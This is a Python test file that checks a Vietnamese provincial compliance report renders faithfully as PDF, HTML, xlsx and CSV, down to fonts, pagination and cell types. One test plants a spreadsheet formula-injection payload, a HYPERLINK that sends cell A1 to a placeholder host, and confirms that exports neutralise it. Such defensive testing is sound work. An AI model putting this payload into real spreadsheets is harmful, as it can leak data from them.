"""The same report as PDF, HTML, xlsx and CSV: text and order kept, types right, no formula injection."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, datetime

import openpyxl
import pytest
from flask import current_app
from pypdf import PdfReader

from coordination.assignments.operations import report_progress
from coordination.extensions import db
from coordination.reports.compliance import ReportScope, build_report
from coordination.reports.render_csv import render_csv
from coordination.reports.render_html import render_html
from coordination.reports.render_pdf import render_pdf
from coordination.reports.render_xlsx import render_xlsx
from coordination.reports.tabular import DETAIL_COLUMNS
from tests.conftest import SETUP, assignment_of, directive, get_user
from tests.reports.conftest import REF_2157

TITLE_2157 = "Tình hình thực hiện Công văn số 2157/UBND-KSTT ngày 14/8/2022 của UBND tỉnh Tây Ninh"
INJECTION = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'


def _report(as_of: date | None = None):  # type: ignore[no-untyped-def]
    return build_report(get_user("office.tayninh"), ReportScope(directive=directive(REF_2157)), as_of=as_of)


def _words(text: str) -> str:
    return " ".join(text.split())


@pytest.fixture
def pdf_2157(app) -> tuple[bytes, object]:
    report = _report()
    with current_app.test_request_context():
        return render_pdf(report), report


def test_pdf_holds_the_title_and_every_task_in_document_order(pdf_2157):
    data, report = pdf_2157
    reader = PdfReader(io.BytesIO(data))
    pages = [page.extract_text() for page in reader.pages]
    text = _words(" ".join(pages))
    assert "BÁO CÁO" in text
    assert TITLE_2157 in text
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text and "Độc lập - Tự do - Hạnh phúc" in text
    assert "V/v thực hiện cao điểm cấp CCCD gắn chip điện tử trên địa bàn tỉnh" in text
    # Every task, by its label and first words, where the directive put it (12 before 11, no 6).
    where = []
    for task in report.tasks:
        marker = f"{task.label}{'.' if task.depth == 0 else ''} {' '.join(task.text.split()[:4])}"
        assert marker in text, marker
        where.append(text.index(marker, where[-1] if where else 0))
    assert where == sorted(where)
    assert [t.label for t in report.tasks if t.depth == 0] == ["1", "2", "3", "4", "5", "7", "8", "9", "10", "12", "11"]
    # Page numbers "Trang 2/N" from the second page (Nghị định 30 leaves the first unnumbered).
    assert "Trang" not in _words(pages[0]).split("BÁO CÁO")[0]
    assert f"Trang 2/{len(pages)}" in _words(pages[1])
    assert f"Trang {len(pages)}/{len(pages)}" in _words(pages[-1])
    # Overdue rows carry a word and a marker, not only a colour.
    assert "▲ Quá hạn" in text
    assert "Nơi nhận:" in text and "Võ Đức Trọng" in text


def test_pdf_embeds_the_shipped_fonts_only(pdf_2157):
    data = pdf_2157[0]
    reader = PdfReader(io.BytesIO(data))
    fonts = set()
    for page in reader.pages:
        for font in (page["/Resources"].get("/Font") or {}).values():
            font = font.get_object()
            descendant = font["/DescendantFonts"][0].get_object() if "/DescendantFonts" in font else font
            descriptor = descendant["/FontDescriptor"].get_object()
            assert any(key in descriptor for key in ("/FontFile", "/FontFile2", "/FontFile3")), font["/BaseFont"]
            fonts.add(str(font["/BaseFont"]).split("+")[-1])
    assert fonts <= {"Report-Serif", "Report-Serif-Bold", "Report-Serif-Italic", "Report-Serif-Bold-Italic"}, fonts


def test_a_past_report_printed_twice_is_the_same(app):
    first, second = _report(date(2022, 9, 1)), _report(date(2022, 9, 1))
    with current_app.test_request_context():
        assert render_html(first) == render_html(second)
        one, two = render_pdf(first), render_pdf(second)
    assert [p.extract_text() for p in PdfReader(io.BytesIO(one)).pages] == [
        p.extract_text() for p in PdfReader(io.BytesIO(two)).pages
    ]
    assert "ngày 01 tháng 9 năm 2022" in _words(PdfReader(io.BytesIO(one)).pages[0].extract_text())


def test_html_is_the_official_layout_with_print_css(app):
    with current_app.test_request_context():
        html = render_html(_report())
    assert "size: A4 landscape" in html
    assert 'counter(page) "/" counter(pages)' in html
    assert "<thead>" in html  # repeated on every printed page
    assert "@font-face" in html and "/static/fonts/LiberationSerif-Regular.ttf" in html
    assert re.search(r"Tây Ninh, ngày \d{2} tháng \d{1,2} năm \d{4}", html)
    assert "Số:        /BC-UBND" in html


def test_xlsx_reopens_with_rows_types_frozen_header_and_filters(app):
    report = _report()
    book = openpyxl.load_workbook(io.BytesIO(render_xlsx(report)))
    assert book.sheetnames == ["Tổng hợp", "Chi tiết"]
    detail = book["Chi tiết"]
    assert detail.freeze_panes == "A5"
    header = [cell.value for cell in detail[4]]
    assert header == [name for name, _kind in DETAIL_COLUMNS]
    rows = [row for row in detail.iter_rows(min_row=5, values_only=True)]
    expected = [(t, r) for t in report.tasks for r in t.assignments]
    assert len(rows) == len(expected)
    assert detail.auto_filter.ref == f"A4:T{4 + len(expected)}"
    column = {name: i for i, name in enumerate(header)}
    for values, (task, row) in zip(rows, expected, strict=True):
        assert values[column["Nhiệm vụ"]] == task.display_label
        assert values[column["Mã cơ quan"]] == row.agency_code
        deadline = values[column["Thời hạn"]]
        assert isinstance(deadline, datetime) and deadline.date() == row.deadline
        assert isinstance(values[column["Số ngày quá hạn"]], int)
        assert values[column["Số ngày quá hạn"]] == row.days_late
        assert values[column["Số minh chứng"]] == row.evidence_count
    assert detail.cell(5, column["Thời hạn"] + 1).number_format == "dd/mm/yyyy"
    assert detail.column_dimensions["D"].width == 60
    summary = book["Tổng hợp"]
    assert summary.freeze_panes == "A5" and summary.auto_filter.ref.startswith("A4:")
    lines = [row for row in summary.iter_rows(min_row=5, values_only=True) if isinstance(row[0], int)]
    assert [line[1] for line in lines] == [a.code for a in report.agencies]
    total = next(row for row in summary.iter_rows(min_row=5, values_only=True) if row[2] == "Tổng cộng")
    assert total[3] == report.summary.assignments
    assert total[4] == report.summary.done_on_time
    assert total[5] == pytest.approx(report.summary.percent("done_on_time") / 100)


def test_csv_round_trips_with_a_bom(app):
    report = _report()
    text = render_csv(report.blocks)
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.encode("utf-8").decode("utf-8-sig"))))
    assert rows[0] == [name for name, _kind in DETAIL_COLUMNS]
    expected = [(t, r) for t in report.tasks for r in t.assignments]
    assert len(rows) - 1 == len(expected)
    first_task, first_row = expected[0]
    assert rows[1][2] == first_task.display_label
    assert rows[1][3] == first_task.text  # commas and Vietnamese kept
    assert rows[1][6] == first_row.agency_name
    assert rows[1][8] == "30/09/2022"


def test_formulas_in_notes_stay_text(app):
    work = assignment_of(REF_2157, "5", "TN-STP")
    report_progress(work, actor=get_user("justice.tayninh"), note=INJECTION)
    report_progress(assignment_of(REF_2157, "7", "TN-SGDDT"), actor=SETUP, note="+84 912 345 678; -5%; @all")
    db.session.commit()
    report = _report()

    data = render_xlsx(report)
    detail = openpyxl.load_workbook(io.BytesIO(data))["Chi tiết"]
    results = {row[5]: row[16] for row in detail.iter_rows(min_row=5, values_only=True) if row[2] == "5"}
    assert results["TN-STP"] == INJECTION  # the text itself, no apostrophe added
    cells = [c for row in detail.iter_rows(min_row=5) for c in row if c.value == INJECTION]
    assert cells and all(c.data_type == "s" for c in cells)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in sheet or "<f " in sheet for sheet in sheets)

    rows = list(csv.reader(io.StringIO(render_csv(report.blocks).removeprefix("\ufeff"))))
    notes = [row[16] for row in rows[1:]]
    assert "'" + INJECTION in notes
    assert "'+84 912 345 678; -5%; @all" in notes
    assert not any(note.startswith(("=", "+", "-", "@", "\t", "\r")) for note in notes)


def test_empty_scope_renders_everywhere(app):
    report = build_report(get_user("admin"), ReportScope(issued_from=date(2030, 1, 1), issued_to=date(2030, 12, 31)))
    with current_app.test_request_context():
        html = render_html(report)
        pdf = render_pdf(report)
    assert "Không có nhiệm vụ nào trong phạm vi báo cáo." in html
    assert "Không có nhiệm vụ nào trong phạm vi báo cáo." in _words(PdfReader(io.BytesIO(pdf)).pages[0].extract_text())
    book = openpyxl.load_workbook(io.BytesIO(render_xlsx(report)))
    assert book["Chi tiết"]["A5"].value == "Không có nhiệm vụ nào trong phạm vi báo cáo."
    assert render_csv(report.blocks).count("\n") == 1


def test_a_large_report_is_drawn_by_reportlab_with_the_same_text(app):
    """Above REPORT_PDF_HTML_MAX_ROWS rows WeasyPrint is too slow and too hungry: the same document by ReportLab."""
    report = _report()
    with current_app.test_request_context():
        data = render_pdf(report, max_rows=10)
    reader = PdfReader(io.BytesIO(data))
    assert reader.metadata.producer.lower().startswith("reportlab")
    pages = [page.extract_text() for page in reader.pages]
    text = _words(" ".join(pages))
    assert "BÁO CÁO" in text and TITLE_2157 in text
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text and "Độc lập - Tự do - Hạnh phúc" in text
    where = []
    for task in report.tasks:
        marker = f"{task.label}{'.' if task.depth == 0 else ''} {' '.join(task.text.split()[:4])}"
        assert marker in text, marker
        where.append(text.index(marker, where[-1] if where else 0))
    assert where == sorted(where)
    assert f"Trang 2/{len(pages)}" in _words(pages[1]) and "Trang" not in _words(pages[0])
    assert "▲ Quá hạn" in text and "Võ Đức Trọng" in text
    # The same report gives the same bytes (ReportLab's invariant mode: no date, a fixed id).
    with current_app.test_request_context():
        assert render_pdf(report, max_rows=10) == data


@pytest.mark.parametrize(
    "scope",
    [
        lambda: ReportScope(directive=directive(REF_2157)),
        lambda: ReportScope(agency=assignment_of(REF_2157, "5", "TN-STP").agency),
        lambda: ReportScope(issued_from=date(2030, 1, 1)),  # nothing in it
    ],
    ids=["directive", "agency", "empty"],
)
def test_streamed_xlsx_is_the_same_workbook(app, scope) -> None:  # type: ignore[no-untyped-def]
    """render_xlsx_streamed spills the detail rows to a file as the blocks come: the cells are those of
    render_xlsx over the whole report."""
    from coordination.reports.render_xlsx import render_xlsx_streamed

    user, day = get_user("office.tayninh"), date(2026, 11, 24)
    whole = openpyxl.load_workbook(io.BytesIO(render_xlsx(build_report(user, scope(), as_of=day))))
    streamed = openpyxl.load_workbook(io.BytesIO(render_xlsx_streamed(user, scope(), day)))
    assert streamed.sheetnames == whole.sheetnames
    for name in whole.sheetnames:
        assert list(streamed[name].iter_rows(values_only=True)) == list(whole[name].iter_rows(values_only=True))
        assert streamed[name].auto_filter.ref == whole[name].auto_filter.ref
    details = [row[0] for row in whole["Chi tiết"].iter_rows(min_row=5, values_only=True)]
    if scope().issued_from is None:
        assert len(details) >= 2 and None not in details  # every row has its STT
    else:
        assert details == ["Không có nhiệm vụ nào trong phạm vi báo cáo."]
